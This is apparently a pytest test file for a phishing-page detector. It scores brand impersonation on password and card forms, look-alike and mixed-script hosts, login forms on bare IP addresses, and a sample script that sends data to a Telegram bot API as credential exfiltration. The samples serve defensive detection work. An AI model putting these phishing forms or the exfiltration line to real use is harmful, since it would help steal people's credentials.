import pytest

from app.domain.violations import ViolationKey
from app.engines.analyse.impersonation import Impersonation

PASSWORD = "<form><input name=user><input type=password name=pw></form>"
CARD = "<form><input placeholder='银行卡号'><input name=cvv><input type=password></form>"


@pytest.fixture(scope="module")
def rules(brands):
    return Impersonation(brands)


def scores(rules, subject):
    signals = list(rules.examine(subject))
    assert all(signal.key is ViolationKey.FRAUD for signal in signals)
    return {signal.evidence.rule: signal.evidence.score for signal in signals}


@pytest.mark.parametrize(
    ("title", "form"),
    [
        ("PayPal: Log in to your account", PASSWORD),
        ("招商银行信用卡 - 积分兑换", CARD),
        ("登录 | 中国工商银行个人网上银行", PASSWORD),
        ("Apple ID", PASSWORD),
        ("Sign in to your Microsoft account", PASSWORD),
        ("MetaMask Wallet", PASSWORD),
    ],
)
def test_a_page_that_calls_itself_a_brand_and_asks_for_secrets_elsewhere(rules, make_subject, title, form):
    assert scores(rules, make_subject(title=title, html=form))["brand_impersonation"] >= 0.8


def test_a_brand_in_the_heading_counts_like_one_in_the_title(rules, make_subject):
    subject = make_subject(title="Welcome", html=f"<h1>PayPal</h1>{PASSWORD}")
    assert scores(rules, subject)["brand_impersonation"] >= 0.8


def test_payment_services_in_the_headings_of_a_shop_are_not_its_name(rules, make_subject):
    html = f"<h1>Checkout</h1><h2>PayPal</h2><h2>Visa</h2>{CARD}"
    assert scores(rules, make_subject(title="Bookworm & Sons", html=html)) == {}


def test_a_brand_beside_other_words_needs_a_review_when_card_data_is_asked(rules, make_subject):
    score = scores(rules, make_subject(title="中国邮政包裹异常补缴运费", html=CARD))["brand_impersonation"]
    assert 0.5 <= score < 0.8


@pytest.mark.parametrize(
    ("title", "html", "url"),
    [
        ("PayPal: Log in", PASSWORD, "https://www.paypal.com/signin"),
        ("PayPal", "<p>About the company</p>", "https://www.party.example/"),
        ("How PayPal works for small shops: a guide", PASSWORD, "https://www.party.example/"),
        ("Log in with Google - Recipe Box", PASSWORD, "https://www.party.example/"),
        ("微信登录 - 花艺论坛", PASSWORD, "https://www.party.example/"),
        ("Flower forum", PASSWORD, "https://www.party.example/"),
        ("Pay with Visa - PayPal", PASSWORD, "https://www.paypal.com/"),
        ("Search", "<form><input type=search name=q></form>", "https://www.party.example/"),
    ],
)
def test_own_pages_mentions_and_sign_in_buttons_stay_clean(rules, make_subject, title, html, url):
    found = scores(rules, make_subject(title=title, html=html, url=url))
    assert all(score < 0.5 for score in found.values())


def test_a_form_on_a_bare_address_needs_a_review(rules, make_subject):
    assert scores(rules, make_subject(html=PASSWORD, url="http://192.0.2.7/login"))["ip_host_form"] >= 0.5
    assert scores(rules, make_subject(html="<p>Welcome</p>", url="http://192.0.2.7/")) == {}


def test_a_look_alike_host_is_worse_with_a_form(rules, make_subject):
    url = "https://paypa1.com/"
    alone = scores(rules, make_subject(html="<p>Hello</p>", url=url))["look_alike_host.homograph"]
    asking = scores(rules, make_subject(html=PASSWORD, url=url))["look_alike_host.homograph"]
    assert alone < 0.5 <= asking


def test_mixed_scripts_in_the_host_are_noted(rules, make_subject):
    found = scores(rules, make_subject(html=PASSWORD, url="https://xn--pypal-4ve.com/"))
    assert found["mixed_script_host"] >= 0.5


def test_secrets_sent_to_a_chat_bot_are_a_finding(rules, make_subject):
    script = "<script>fetch('https://api.telegram.org/bot123:abc/sendMessage')</script>"
    assert scores(rules, make_subject(html=PASSWORD + script))["credential_exfiltration"] >= 0.8
    assert scores(rules, make_subject(html="<p>Our bot</p>" + script)) == {}


def test_the_evidence_names_brand_list_and_title(rules, make_subject):
    (signal,) = rules.examine(make_subject(title="PayPal", html=PASSWORD))
    assert signal.evidence.terms == ("PayPal",)
    assert signal.evidence.snippet == "PayPal"
    assert signal.evidence.provenance.startswith("brands 2")
